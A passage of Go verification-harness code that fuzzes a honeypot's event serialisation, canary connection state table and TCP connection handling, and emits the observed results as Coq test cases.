		return event.DestinationAddr(goAddr(*o.Addr)), "ODstAddr (" + coqAddr(*o.Addr) + ")"
	case "MergeFrom":
		return event.MergeFrom(goMap(o.Map)), "OMerge " + coqKVs(o.Map)
	case "CopyFrom":
		return event.CopyFrom(goMap(o.Map)), "OCopy " + coqKVs(o.Map)
	case "NewWith":
		var subs []event.Option
		var cs []string
		for _, so := range o.Sub {
			g, c := build(so)
			subs = append(subs, g)
			cs = append(cs, c)
		}
		return event.NewWith(subs...), "ONewWith " + hx.CoqList(cs, "opt")
	case "Nil":
		return nil, "ONil"
	}
	panic("bad opt kind " + o.Kind)
}

func coqVal(v ValD) string {
	switch v.Kind {
	case "str":
		return "VStr " + hx.CoqBytes(v.Str)
	case "int":
		return "VInt " + hx.CoqZ(v.Int)
	}
	return "VOther " + hx.CoqN(uint64(v.Type))
}

func coqAddr(a AddrD) string {
	switch a.Kind {
	case "tcp":
		return fmt.Sprintf("ATcp %s %s", hx.CoqStr(net.ParseIP(a.IP).String()), hx.CoqZ(int64(a.Port)))
	case "udp":
		return fmt.Sprintf("AUdp %s %s", hx.CoqStr(net.ParseIP(a.IP).String()), hx.CoqZ(int64(a.Port)))
	case "nilip-tcp":
		return fmt.Sprintf("ATcp %s %s", hx.CoqStr(net.IP(nil).String()), hx.CoqZ(int64(a.Port)))
	}
	return "AOther"
}

func coqKVs(m []KV) string {
	var es []string
	for _, kv := range m {
		es = append(es, fmt.Sprintf("(%s, %s)", hx.CoqBytes(kv.Key), coqVal(kv.Val)))
	}
	return hx.CoqList(es, "(key * value)")
}

// projection of a stored Go value
func project(v interface{}) ValD {
	switch x := v.(type) {
	case string:
		return ValD{Kind: "str", Str: hx.B(x)}
	case int:
		return ValD{Kind: "int", Int: int64(x)}
	case int64:
		return ValD{Kind: "int", Int: x}
	case uint16:
		return ValD{Kind: "int", Int: int64(x)}
	case uint32:
		return ValD{Kind: "int", Int: int64(x)}
	case []byte:
		return ValD{Kind: "other", Type: 1}
	case []string:
		return ValD{Kind: "other", Type: 2}
	case map[string]interface{}:
		return ValD{Kind: "other", Type: 3}
	case bool:
		return ValD{Kind: "other", Type: 4}
	case float64:
		return ValD{Kind: "other", Type: 5}
	case error:
		return ValD{Kind: "other", Type: 6}
	case struct{ A int }:
		return ValD{Kind: "other", Type: 7}
	case nil:
		return ValD{Kind: "other", Type: 8}
	case time.Time:
		return ValD{Kind: "other", Type: 9}
	case chan int:
		return ValD{Kind: "other", Type: 100}
	case func():
		return ValD{Kind: "other", Type: 101}
	case complex128:
		return ValD{Kind: "other", Type: 102}
	}
	return ValD{Kind: "other", Type: 99}
}

type Obs struct {
	Snap      []KV `json:"snap"`
	JSONOk    bool `json:"json_ok"`
	JSONKeys  bool `json:"json_keys"`
	ToMapKeys bool `json:"tomap_keys"`
}

func sameKeys(have map[string]bool, snap []KV) bool {
	want := map[string]bool{}
	for _, kv := range snap {
		want[string(kv.Key)] = true
	}
	if len(want) != len(have) {
		return false
	}
	for k := range want {
		if !have[k] {
			return false
		}
	}
	return true
}

func observe(opts []OptD) (ob Obs, cs []string, crash string) {
	defer func() {
		if r := recover(); r != nil {
			crash = fmt.Sprint(r)
		}
	}()
	return observe1(opts)
}

func observe1(opts []OptD) (Obs, []string, string) {
	var gos []event.Option
	var cs []string
	for _, o := range opts {
		g, c := build(o)
		gos = append(gos, g)
		cs = append(cs, c)
	}
	e := event.New(gos...)
	var ob Obs
	e.Range(func(k, v interface{}) bool {
		ks, ok := k.(string)
		if !ok {
			return true
		}
		ob.Snap = append(ob.Snap, KV{Key: hx.B(ks), Val: project(v)})
		return true
	})
	sort.Slice(ob.Snap, func(i, j int) bool { return string(ob.Snap[i].Key) < string(ob.Snap[j].Key) })
	if b, err := json.Marshal(e); err == nil {
		ob.JSONOk = true
		var back map[string]json.RawMessage
		if json.Unmarshal(b, &back) == nil {
			have := map[string]bool{}
			for k := range back {
				have[k] = true
			}
			// JSON coerces invalid UTF-8 in keys; compare on the coerced form
			want := map[string]bool{}
			for _, kv := range ob.Snap {
				kb, _ := json.Marshal(string(kv.Key))
				var ks string
				json.Unmarshal(kb, &ks)
				want[ks] = true
			}
			ob.JSONKeys = len(want) == len(have)
			for k := range want {
				if !have[k] {
					ob.JSONKeys = false
				}
			}
		}
	}
	tm := event.ToMap(e)
	have := map[string]bool{}
	for k := range tm {
		have[k] = true
	}
	ob.ToMapKeys = sameKeys(have, ob.Snap)
	return ob, cs, ""
}

var strPool = []string{"", "a", "ssh", "root", "\x00", "\xff\xfe", "héllo", "line\nbreak", "tab\t\"q\""}
var keyPool = []string{"k1", "k2", "token", "category", "service", "http.url", "x-\xff", "source-ip", "custom.key", "date"}
var ipPool = []string{"127.0.0.1", "10.0.0.5", "::1", "2001:db8::1", "0.0.0.0", "255.255.255.255"}
var strCtors = []string{"Token", "Category", "Type", "Sensor", "Service", "Protocol", "RemoteAddr", "HostAddr"}

func genVal(r *hx.Rand, allowBad bool) ValD {
	switch k := r.Intn(10); {
	case k < 4:
		return ValD{Kind: "str", Str: hx.B(strPool[r.Intn(len(strPool))])}
	case k < 7:
		return ValD{Kind: "int", Int: int64(r.Range(-5, 70000))}
	default:
		t := r.Range(1, 9)
		if allowBad && r.Chance(1, 6) {
			t = 100 + r.Intn(3)
		}
		return ValD{Kind: "other", Type: t}
	}
}

func genMap(r *hx.Rand, allowBad bool) []KV {
	n := r.Range(0, 4)
	seen := map[string]bool{}
	var m []KV
	for i := 0; i < n; i++ {
		k := keyPool[r.Intn(len(keyPool))]
		if seen[k] {
			continue
		}
		seen[k] = true
		m = append(m, KV{Key: hx.B(k), Val: genVal(r, allowBad)})
	}
	return m
}

func genAddr(r *hx.Rand) *AddrD {
	kinds := []string{"tcp", "udp", "tcp", "udp", "unix", "nilip-tcp", "ipaddr"}
	return &AddrD{Kind: kinds[r.Intn(len(kinds))], IP: ipPool[r.Intn(len(ipPool))], Port: r.PickInt([]int{0, 1, 22, 80, 443, 8080, 65535, r.Range(0, 65535)})}
}

func genOpt(r *hx.Rand, depth int, allowBad bool) OptD {
	switch k := r.Intn(24); {
	case k < 5:
		return OptD{Kind: strCtors[r.Intn(len(strCtors))], Str: hx.B(strPool[r.Intn(len(strPool))])}
	case k < 6:
		return OptD{Kind: r.PickStr([]string{"SourceIP", "DestinationIP"}), Str: hx.B(ipPool[r.Intn(len(ipPool))])}
	case k < 7:
		return OptD{Kind: r.PickStr([]string{"SourcePort", "DestinationPort"}), Port: r.Range(0, 65535)}
	case k < 11:
		v := genVal(r, allowBad)
		return OptD{Kind: "Custom", Key: hx.B(keyPool[r.Intn(len(keyPool))]), Val: &v}
	case k < 14:
		n := r.PickInt([]int{0, 1, 2, 3, 7, 16, 100})
		return OptD{Kind: "Payload", Payload: r.Bytes(n)}
	case k < 17:
		return OptD{Kind: r.PickStr([]string{"SourceAddr", "DestinationAddr"}), Addr: genAddr(r)}
	case k < 19:
		return OptD{Kind: "MergeFrom", Map: genMap(r, allowBad)}
	case k < 21:
		return OptD{Kind: "CopyFrom", Map: genMap(r, allowBad)}
	case k < 23:
		if depth >= 2 {
			return OptD{Kind: "Nil"}
		}
		n := r.Range(0, 3)
		var sub []OptD
		for i := 0; i < n; i++ {
			so := genOpt(r, depth+1, allowBad)
			if so.Kind == "Nil" { // NewWith calls every option: a nil one would panic in the caller's own code
				continue
			}
			sub = append(sub, so)
		}
		return OptD{Kind: "NewWith", Sub: sub}
	default:
		return OptD{Kind: "Nil"}
	}
}

// fileChannel sends events through the real `file` channel and mutates each event right
// after Send returned: the JSON line written for it must show the event as it was when it
// was sent (every key stored then, no key stored later, payload fields unchanged).
func fileChannel(lists [][]OptD, dir string) ([]Obs, [][]string, []string) {
	path := filepath.Join(dir, "c05-filechan.log")
	os.Remove(path)
	ch, err := fschannel.New(func(c pushers.Channel) error {
		fb, ok := c.(*fschannel.FileBackend)
		if !ok {
			return fmt.Errorf("unexpected channel type %T", c)
		}
		fb.File = path
		return nil
	})
	if err != nil {
		hx.Fatal("file channel: %v", err)
	}
	obs := make([]Obs, len(lists))
	coqs := make([][]string, len(lists))
	crash := make([]string, len(lists))
	snaps := make([]map[string]ValD, len(lists))
	for i, opts := range lists {
		var gos []event.Option
		for _, o := range opts {
			g, c := build(o)
			gos = append(gos, g)
			coqs[i] = append(coqs[i], c)
		}
		gos = append(gos, event.Custom("verif.line", i))
		coqs[i] = append(coqs[i], fmt.Sprintf("OStore %s (VInt %s)", hx.CoqStr("verif.line"), hx.CoqZ(int64(i))))
		e := event.New(gos...)
		snaps[i] = map[string]ValD{}
		e.Range(func(k, v interface{}) bool {
			ks, _ := k.(string)
			obs[i].Snap = append(obs[i].Snap, KV{Key: hx.B(ks), Val: project(v)})
			snaps[i][ks] = project(v)
			return true
		})
		sort.Slice(obs[i].Snap, func(a, b int) bool { return string(obs[i].Snap[a].Key) < string(obs[i].Snap[b].Key) })
		ch.Send(e)
		// the sender keeps using its event (as the bus does: a later channel stores the token)
		e.Store("verif.after-send", "late")
		e.Store("payload-hex", "00")
		e.Store("payload-length", -1)
		obs[i].ToMapKeys = true
	}
	time.Sleep(1300 * time.Millisecond) // idle flush
	f, err := os.Open(path)
	if err != nil {
		for i := range crash {
			crash[i] = "file channel wrote nothing: " + err.Error()
		}
		return obs, coqs, crash
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<24)
	seen := map[int]bool{}
	for sc.Scan() {
		var m map[string]interface{}
		if json.Unmarshal(sc.Bytes(), &m) != nil {
			continue
		}
		idx, ok := m["verif.line"].(float64)
		if !ok || int(idx) < 0 || int(idx) >= len(lists) || seen[int(idx)] {
			continue
		}
		i := int(idx)
		seen[i] = true
		obs[i].JSONOk = true
		good := len(m) == len(snaps[i])
		for k, v := range snaps[i] {
			kb, _ := json.Marshal(k)
			var ks string
			json.Unmarshal(kb, &ks)
			got, present := m[ks]
			if !present {
				good = false
				continue
			}
			switch v.Kind {
			case "int":
				if g, ok := got.(float64); !ok || int64(g) != v.Int {
					good = false
				}
			case "str":
				if k == "payload-hex" {
					if g, ok := got.(string); !ok || g != string(v.Str) {
						good = false
					}
				}
			}
		}
		obs[i].JSONKeys = good
	}
	return obs, coqs, crash
}

func main() {
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)
	var ins [][]OptD
	kinds := []string{}
	add := func(kind string, opts []OptD) { ins = append(ins, opts); kinds = append(kinds, kind) }
	if o.Only != "" && hx.ReplayPart(o.Only) == "console" {
		var in ConsIn
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			panic(err)
		}
		consolePart(o, r, &in)
		return
	}
	if o.Only != "" {
		var in []OptD
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			panic(err)
		}
		add("replay", in)
	} else {
		// all single bytes, exhaustively
		for b := 0; b < 256; b++ {
			add("payload1", []OptD{{Kind: "Payload", Payload: hx.B{byte(b)}}})
		}
		// 2-byte strings: exhaustive in thorough, a seeded slice in quick
		n2 := 300
		if o.Tier == "search" {
			n2 = 3000
		}
		if o.Tier == "thorough" {
			for a := 0; a < 256; a++ {
				for b := 0; b < 256; b++ {
					add("payload2", []OptD{{Kind: "Payload", Payload: hx.B{byte(a), byte(b)}}})
				}
			}
			n2 = 0
		}
		for i := 0; i < n2; i++ {
			add("payload2", []OptD{{Kind: "Payload", Payload: r.Bytes(2)}})
		}
		for _, n := range []int{0, 255, 256, 4096, 65536} {
			add("payloadN", []OptD{{Kind: "Payload", Payload: r.Bytes(n)}, {Kind: "SourceAddr", Addr: genAddr(r)}})
		}
		nr := 500
		if o.Tier != "quick" {
			nr = 4000
		}
		for i := 0; i < nr; i++ {
			n := r.Range(1, 6)
			var opts []OptD
			allowBad := r.Chance(1, 5)
			for j := 0; j < n; j++ {
				opts = append(opts, genOpt(r, 0, allowBad))
			}
			add("options", opts)
		}
	}
	dist := map[string]int{}
	var cases []hx.Case
	for i, opts := range ins {
		ob, cs, crash := observe(opts)
		dist["kind:"+kinds[i]]++
		var walk func(os []OptD)
		walk = func(os []OptD) {
			for _, op := range os {
				dist["opt:"+op.Kind]++
				walk(op.Sub)
			}
		}
		walk(opts)
		if !ob.JSONOk {
			dist["json-unserialisable"]++
		}
		var snap []string
		for _, kv := range ob.Snap {
			snap = append(snap, fmt.Sprintf("(%s, %s)", hx.CoqBytes(kv.Key), coqVal(kv.Val)))
		}
		coq := fmt.Sprintf("mkCase %s %s %s %s %s %s", hx.CoqN(uint64(i)), hx.CoqList(cs, "opt"),
			hx.CoqList(snap, "(key * value)"), hx.CoqBool(ob.JSONOk), hx.CoqBool(ob.JSONKeys), hx.CoqBool(ob.ToMapKeys))
		cases = append(cases, hx.Case{ID: i, Kind: kinds[i], Input: opts, Obs: ob, Coq: coq, Crash: crash})
	}
	if o.Only == "" {
		nf := 60
		var lists [][]OptD
		for i := 0; i < nf; i++ {
			n := r.Range(1, 5)
			var opts []OptD
			for j := 0; j < n; j++ {
				opts = append(opts, genOpt(r, 0, false))
			}
			if i%2 == 0 {
				opts = append(opts, OptD{Kind: "Payload", Payload: r.Bytes(r.PickInt([]int{0, 1, 5, 64, 300}))})
			}
			lists = append(lists, opts)
		}
		// a burst whose encoded lines exceed the channel's size-triggered flush (500 KiB) within
		// one flush period: ~230 events of ~2.3 KiB each
		nsmall := len(lists)
		for i := 0; i < 230; i++ {
			lists = append(lists, []OptD{genOpt(r, 0, false), {Kind: "Payload", Payload: r.Bytes(700 + i%5)}})
		}
		fobs, fcoqs, fcrash := fileChannel(lists[:nsmall], o.Out)
		bobs, bcoqs, bcrash := fileChannel(lists[nsmall:], o.Out)
		fobs, fcoqs, fcrash = append(fobs, bobs...), append(fcoqs, bcoqs...), append(fcrash, bcrash...)
		for j := range lists {
			id := len(cases)
			if j >= nsmall {
				dist["kind:filechan-burst"]++
			}
			dist["kind:filechan"]++
			var snap []string
			for _, kv := range fobs[j].Snap {
				snap = append(snap, fmt.Sprintf("(%s, %s)", hx.CoqBytes(kv.Key), coqVal(kv.Val)))
			}
			coq := fmt.Sprintf("mkCase %s %s %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqList(fcoqs[j], "opt"),
				hx.CoqList(snap, "(key * value)"), hx.CoqBool(fobs[j].JSONOk), hx.CoqBool(fobs[j].JSONKeys), hx.CoqBool(fobs[j].ToMapKeys))
			cases = append(cases, hx.Case{ID: id, Kind: "filechan", Input: lists[j], Obs: fobs[j], Coq: coq, Crash: fcrash[j]})
		}
	}
	hx.Write(o, "C05", "ev", "From HT Require Import Common.Bytes C05.Model C05.Check.", "case", cases, dist, nil, 300)
	if o.Only == "" {
		consolePart(o, r, nil)
	}
}
