// part "table": operation histories on the real canary.StateTable.
//
// Entries are real *canary.State values: "fresh" ones come from Canary.NewState (last
// activity = now), "expired" ones are State literals (zero time: idle for more than
// 30 s).  Add / Get / Remove are the exported methods; State.State is mutated the way
// handleTCP does (TIME-WAIT etc.).  After every Add the slot that received the entry is
// looked up in the array.  Panics are recovered and recorded per operation.
package main

import (
	"fmt"
	"net"
	"runtime/debug"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/listener/canary"
	"verif/harness/hx"
)

const tableCap = 65535
const tableBudgetMs = 25000

type ESpec struct {
	SIP     [4]byte `json:"sip"`
	SPort   int     `json:"sport"`
	DIP     [4]byte `json:"dip"`
	DPort   int     `json:"dport"`
	State   int     `json:"state"`
	Expired bool    `json:"expired"`
}

type TOp struct {
	Op   string `json:"op"` // add | fill | get | remove | setstate | count
	E    *ESpec `json:"e,omitempty"`
	N    int    `json:"n,omitempty"`
	Slot int    `json:"slot,omitempty"`
	St   int    `json:"st,omitempty"`
}

type TableIn struct {
	Ops  []TOp  `json:"ops"`
	Note string `json:"note,omitempty"`
}

type TableObs struct {
	Obs     [][]int64 `json:"obs"`
	Times   []int64   `json:"times"`
	Ends    []int64   `json:"ends"` // completion time (ms) of every operation
	PanicAt int       `json:"panic_at"`
	PanicFn int       `json:"panic_fn"`
	// DurationMs: wall time of the whole history; beyond tableBudgetMs a "fresh" entry may
	// have become idle (> 30 s) by the table's own clock and the case is inconclusive
	DurationMs int64 `json:"duration_ms"`
	Trace   string    `json:"trace,omitempty"`
}

func ip4(a [4]byte) net.IP { return net.IPv4(a[0], a[1], a[2], a[3]) }

func mkState(c *canary.Canary, e ESpec, i int) *canary.State {
	sport := uint16((e.SPort + i) % 65536)
	var s *canary.State
	if e.Expired {
		s = &canary.State{SrcIP: ip4(e.SIP), SrcPort: sport, DestIP: ip4(e.DIP), DestPort: uint16(e.DPort)}
	} else {
		s = c.NewState(ip4(e.SIP), sport, ip4(e.DIP), uint16(e.DPort))
	}
	s.State = canary.SocketState(e.State)
	return s
}

func slotOf(t *canary.StateTable, s *canary.State) int64 {
	for i := range *t {
		if (*t)[i] == s {
			return int64(i)
		}
	}
	return -1
}

func runTable(in TableIn) TableObs {
	v, err := canary.NewVerifCanary("lo", nil, nil, nil)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	defer v.Close()
	tbl := new(canary.StateTable)
	ob := TableObs{PanicAt: -1}
	start := time.Now()
	for idx, op := range in.Ops {
		now := time.Since(start).Milliseconds()
		var res []int64
		fn := 9
		panicked := false
		func() {
			defer func() {
				if rec := recover(); rec != nil {
					panicked = true
					st := string(debug.Stack())
					switch {
					case strings.Contains(st, "canary.(*StateTable).Add"):
						fn = 1
					case strings.Contains(st, "canary.(*StateTable).Get"):
						fn = 2
					case strings.Contains(st, "canary.(*StateTable).Remove"):
						fn = 3
					}
					ob.Trace = fmt.Sprint(rec)
				}
			}()
			switch op.Op {
			case "add":
				s := mkState(v.C, *op.E, 0)
				if tbl.Add(s) {
					res = []int64{1, slotOf(tbl, s)}
				} else {
					res = []int64{0, -1}
				}
			case "fill":
				ok, first, last := int64(0), int64(-1), int64(-1)
				for i := 0; i < op.N; i++ {
					s := mkState(v.C, *op.E, i)
					if tbl.Add(s) {
						sl := slotOf(tbl, s)
						ok++
						if first < 0 {
							first = sl
						}
						last = sl
					}
				}
				res = []int64{ok, first, last}
			case "get":
				e := op.E
				s := tbl.Get(ip4(e.SIP), ip4(e.DIP), uint16(e.SPort), uint16(e.DPort))
				if s == nil {
					res = []int64{-1}
				} else {
					res = []int64{slotOf(tbl, s)}
				}
			case "remove":
				if op.Slot >= 0 && op.Slot < tableCap && (*tbl)[op.Slot] != nil {
					tbl.Remove((*tbl)[op.Slot])
					res = []int64{1}
				} else {
					res = []int64{0}
				}
			case "setstate":
				if op.Slot >= 0 && op.Slot < tableCap && (*tbl)[op.Slot] != nil {
					(*tbl)[op.Slot].State = canary.SocketState(op.St)
					res = []int64{1}
				} else {
					res = []int64{0}
				}
			case "count":
				n := int64(0)
				for i := range *tbl {
					if (*tbl)[i] != nil {
						n++
					}
				}
				res = []int64{n}
			default:
				hx.Fatal("unknown table op %q", op.Op)
			}
		}()
		if panicked {
			ob.PanicAt, ob.PanicFn = idx, fn
			ob.DurationMs = time.Since(start).Milliseconds()
			return ob
		}
		ob.Obs = append(ob.Obs, res)
		ob.Times = append(ob.Times, now)
		ob.Ends = append(ob.Ends, time.Since(start).Milliseconds())
	}
	ob.DurationMs = time.Since(start).Milliseconds()
	return ob
}

// ---- generation

var tblPeers = [][4]byte{{10, 0, 0, 5}, {10, 9, 0, 7}, {127, 0, 0, 1}}

const (
	stListen   = 1
	stSynRcvd  = 2
	stEstab    = 4
	stFinWait1 = 5
	stTimeWait = 8
	stCloseW   = 9
)

func randSpec(r *hx.Rand) ESpec {
	return ESpec{SIP: tblPeers[r.Intn(len(tblPeers))], SPort: r.PickInt([]int{80, 1000, 1001, 1002, 40000, 0, 65535}),
		DIP: tblPeers[r.Intn(len(tblPeers))], DPort: r.PickInt([]int{80, 443, 1000, 1001, 0}),
		State: r.PickInt([]int{stSynRcvd, stSynRcvd, stEstab, stListen, stTimeWait, stFinWait1, stCloseW}), Expired: r.Chance(1, 4)}
}

// small tables: every operation kind, colliding tuples, reversed directions, holes, TIME-WAIT reuse
func genTableSmall(r *hx.Rand) TableIn {
	in := TableIn{Note: "small"}
	n := r.Range(1, 60)
	size := 0
	for i := 0; i < n; i++ {
		switch r.Intn(10) {
		case 0, 1, 2, 3:
			e := randSpec(r)
			in.Ops = append(in.Ops, TOp{Op: "add", E: &e})
			size++
		case 4:
			e := randSpec(r)
			k := r.Range(0, 12)
			in.Ops = append(in.Ops, TOp{Op: "fill", E: &e, N: k})
			size += k
		case 5, 6:
			e := randSpec(r)
			in.Ops = append(in.Ops, TOp{Op: "get", E: &e})
		case 7:
			in.Ops = append(in.Ops, TOp{Op: "remove", Slot: r.Intn(size + 2)})
		case 8:
			in.Ops = append(in.Ops, TOp{Op: "setstate", Slot: r.Intn(size + 2), St: r.PickInt([]int{stTimeWait, stTimeWait, stEstab, stCloseW, 0})})
		default:
			in.Ops = append(in.Ops, TOp{Op: "count"})
		}
	}
	in.Ops = append(in.Ops, TOp{Op: "count"})
	return in
}

// boundary histories on a table filled to (about) its capacity
func genTableFull(r *hx.Rand, variant int) TableIn {
	fresh := ESpec{SIP: tblPeers[0], SPort: 0, DIP: tblPeers[2], DPort: 80, State: stSynRcvd}
	expired := fresh
	expired.Expired = true
	other := ESpec{SIP: tblPeers[1], SPort: 7, DIP: tblPeers[2], DPort: 443, State: stSynRcvd}
	otherExp := other
	otherExp.Expired = true
	in := TableIn{}
	add := func(o TOp) { in.Ops = append(in.Ops, o) }
	getOf := func(e ESpec, i int) TOp {
		g := e
		g.SPort = (e.SPort + i) % 65536
		return TOp{Op: "get", E: &g}
	}
	switch variant {
	case 0: // full of live connections: refused; then a hole / a TIME-WAIT slot at an arbitrary position is reused
		in.Note = "full-fresh"
		add(TOp{Op: "get", E: &other}) // Get on the empty table
		add(TOp{Op: "remove", Slot: 0})
		add(TOp{Op: "count"})
		add(TOp{Op: "fill", E: &fresh, N: tableCap})
		add(TOp{Op: "count"})
		add(TOp{Op: "add", E: &other})
		add(TOp{Op: "fill", E: &other, N: 3})
		add(getOf(fresh, 0))
		add(getOf(fresh, tableCap-1))
		add(TOp{Op: "get", E: &other})
		for k := 0; k < 4; k++ {
			pos := r.PickInt([]int{0, 1, tableCap - 1, tableCap - 2, r.Intn(tableCap)})
			if r.Bool() {
				add(TOp{Op: "remove", Slot: pos})
			} else {
				add(TOp{Op: "setstate", Slot: pos, St: stTimeWait})
			}
			add(TOp{Op: "add", E: &other})
			add(TOp{Op: "add", E: &other}) // full again
			add(TOp{Op: "get", E: &other})
		}
		add(TOp{Op: "count"})
	case 1: // every entry expired: each new connection takes the first idle slot
		in.Note = "full-expired-all"
		add(TOp{Op: "fill", E: &expired, N: tableCap})
		add(TOp{Op: "add", E: &other})
		add(TOp{Op: "add", E: &other})
		add(TOp{Op: "add", E: &otherExp}) // an expired newcomer is itself evicted by the next Add
		add(TOp{Op: "add", E: &other})
		add(TOp{Op: "fill", E: &other, N: r.Range(2, 30)})
		add(TOp{Op: "get", E: &other})
		add(getOf(expired, tableCap-1))
		add(TOp{Op: "count"})
	case 2: // live entries with a single expired one at a boundary position
		in.Note = "full-one-expired"
		pos := r.PickInt([]int{0, 1, tableCap - 1, tableCap - 2, r.Range(2, tableCap-3)})
		if pos > 0 {
			add(TOp{Op: "fill", E: &fresh, N: pos})
		}
		add(TOp{Op: "add", E: &otherExp})
		rest := tableCap - pos - 1
		if rest > 0 {
			e2 := fresh
			e2.SPort = 1
			e2.DPort = 81
			add(TOp{Op: "fill", E: &e2, N: rest})
		}
		add(TOp{Op: "count"})
		add(TOp{Op: "get", E: &other})
		add(TOp{Op: "add", E: &other}) // replaces the expired one
		add(TOp{Op: "get", E: &other})
		add(TOp{Op: "add", E: &other}) // refused
		add(TOp{Op: "count"})
	default: // one slot short of full, then exactly full, then one too many
		in.Note = "fill-to-the-brim"
		add(TOp{Op: "fill", E: &fresh, N: tableCap - 1})
		add(TOp{Op: "count"})
		add(TOp{Op: "add", E: &other})
		add(TOp{Op: "count"})
		add(TOp{Op: "add", E: &other})
		add(TOp{Op: "remove", Slot: tableCap - 1})
		add(TOp{Op: "remove", Slot: tableCap - 1})
		add(TOp{Op: "add", E: &fresh})
		add(TOp{Op: "fill", E: &fresh, N: 2})
		add(TOp{Op: "count"})
	}
	return in
}

// ---- Coq rendering

func coqSpec(e ESpec) string {
	return fmt.Sprintf("(mkES %s %s %s %s %s %s)", ipZ(e.SIP), hx.CoqZ(int64(e.SPort)), ipZ(e.DIP), hx.CoqZ(int64(e.DPort)), hx.CoqZ(int64(e.State)), hx.CoqBool(e.Expired))
}

// natLit keeps nat literals small: anything larger is written through N.to_nat
func natLit(n int) string {
	if n < 1000 {
		return fmt.Sprintf("%d%%nat", n)
	}
	return fmt.Sprintf("(N.to_nat %d%%N)", n)
}

func coqTable(id int, in TableIn, ob TableObs) string {
	var ops, obs []string
	for i, op := range in.Ops {
		t := int64(0)
		if i < len(ob.Times) {
			t = ob.Times[i]
		} else if len(ob.Times) > 0 {
			t = ob.Times[len(ob.Times)-1]
		}
		var o string
		switch op.Op {
		case "add":
			o = "OAdd " + coqSpec(*op.E)
		case "fill":
			o = fmt.Sprintf("OFill %s %s", natLit(op.N), coqSpec(*op.E))
		case "get":
			e := op.E
			o = fmt.Sprintf("OGet %s %s %s %s", ipZ(e.SIP), ipZ(e.DIP), hx.CoqZ(int64(e.SPort)), hx.CoqZ(int64(e.DPort)))
		case "remove":
			o = "ORemove " + natLit(op.Slot)
		case "setstate":
			o = fmt.Sprintf("OSetState %s %s", natLit(op.Slot), hx.CoqZ(int64(op.St)))
		default:
			o = "OCount"
		}
		ops = append(ops, fmt.Sprintf("(%s, %s)", hx.CoqZ(t), o))
	}
	for _, r := range ob.Obs {
		obs = append(obs, coqZs(r))
	}
	return fmt.Sprintf("mkTC %s %s\n      %s\n      %s %s %s", hx.CoqN(uint64(id)), hx.CoqZ(tableCap), hx.CoqList(ops, "(Z * top)"), hx.CoqList(obs, "(list Z)"),
		hx.CoqZ(int64(ob.PanicAt)), hx.CoqZ(int64(ob.PanicFn)))
}
