// connection histories: complete handshakes followed by data segments, so that the
// per-connection reader goroutines (default reader, protocol decoders) and the
// socket buffer / wake-up channel between them and the receive loop are exercised:
// readers that have already returned, readers still waiting, data without PSH piling
// up beyond the 4096-byte socket buffer, FIN/RST in every position, segments after close.
package main

import (
	"fmt"

	"verif/harness/hx"
)

type connGen struct {
	in  *HistIn
	r   *hx.Rand
	seq uint32
}

func (g *connGen) add(f []byte, st *Step) {
	if st != nil {
		st.Idx = len(g.in.Frames)
		g.in.Steps = append(g.in.Steps, *st)
	}
	g.in.Frames = append(g.in.Frames, hx.B(f))
}

// one connection from peer:sport to me:dport
func (g *connGen) connection(peer [4]byte, sport, dport int) {
	r := g.r
	isn := uint32(r.U64())
	g.add(ipFrame(6, peer, ipMe, tcpSeg(sport, dport, isn, 0, 5, fSYN, nil)), nil)
	// third step of the handshake: acceptable acknowledgment (ISS .. ISS+2) or not
	rel := r.PickInt([]int{1, 2, 2, 2, 0, 2, 7})
	g.add(ipFrame(6, peer, ipMe, tcpSeg(sport, dport, isn+1, 0, 5, fACK, nil)), &Step{SetAck: true, Poll: true, AckRel: rel, WaitMs: r.PickInt([]int{0, 0, 2})})
	seq := isn + 1
	nseg := r.PickInt([]int{0, 1, 2, 2, 3, 4, 6})
	noPush := r.Chance(1, 4) // data piles up unread
	for i := 0; i < nseg; i++ {
		fl := fACK | fPSH
		if noPush || r.Chance(1, 5) {
			fl = fACK
		}
		if r.Chance(1, 8) {
			fl |= fFIN
		}
		size := r.PickInt([]int{0, 1, 5, 100, 1460, 1460})
		payload := r.Bytes(size)
		if dport == 80 && i == 0 && size > 0 {
			// an incomplete request keeps the HTTP decoder reading; a complete one lets it return
			payload = []byte(r.PickStr([]string{"GET / HTTP/1.1\r\nHost: a\r\n\r\n", "GET / HTTP/1.1\r\nHost: a\r\n", "GET /"}))
		}
		// wait long enough for the reader to have consumed the previous segment (and, for the
		// default reader, to have closed the connection) - or not at all
		g.add(ipFrame(6, peer, ipMe, tcpSeg(sport, dport, seq, 0, 5, fl, payload)),
			&Step{SetAck: true, AckRel: 2, WaitMs: r.PickInt([]int{0, 0, 1, 8, 25})})
		seq += uint32(len(payload))
	}
	switch r.Intn(5) {
	case 0:
		g.add(ipFrame(6, peer, ipMe, tcpSeg(sport, dport, seq, 0, 5, fFIN|fACK, nil)), &Step{SetAck: true, AckRel: 3, WaitMs: r.PickInt([]int{0, 10})})
	case 1:
		g.add(ipFrame(6, peer, ipMe, tcpSeg(sport, dport, seq, 0, 5, fRST, nil)), nil)
	case 2: // data after the reader is certainly done
		g.add(ipFrame(6, peer, ipMe, tcpSeg(sport, dport, seq, 0, 5, fACK|fPSH, []byte("late"))), &Step{SetAck: true, AckRel: 3, WaitMs: 30})
		g.add(ipFrame(6, peer, ipMe, tcpSeg(sport, dport, seq+4, 0, 5, fACK|fPSH, []byte("later"))), &Step{SetAck: true, AckRel: 3})
	}
}

func genConn(r *hx.Rand, id int, mode string) HistIn {
	in := HistIn{Mode: mode, Child: true, SettleMs: 20, Arp: [][4]byte{peerArp, gwOK, peerRoute, peerLost}, Note: "conn"}
	g := &connGen{in: &in, r: r}
	ports := []int{4000, 4000, 31337, 80, 23, 6379, 443, 9200, 1433, 139, 445}
	n := r.PickInt([]int{1, 1, 2, 3})
	for c := 0; c < n; c++ {
		peer := [][4]byte{peerArp, peerRoute, peerLost}[r.Intn(3)]
		g.connection(peer, r.Range(1024, 40000), ports[r.Intn(len(ports))])
		if r.Chance(1, 3) {
			g.add(ipFrame(17, peerArp, ipMe, udpSeg(r.Range(1024, 65535), 4000, -1, []byte(fmt.Sprintf("between-%d", c)))), nil)
		}
	}
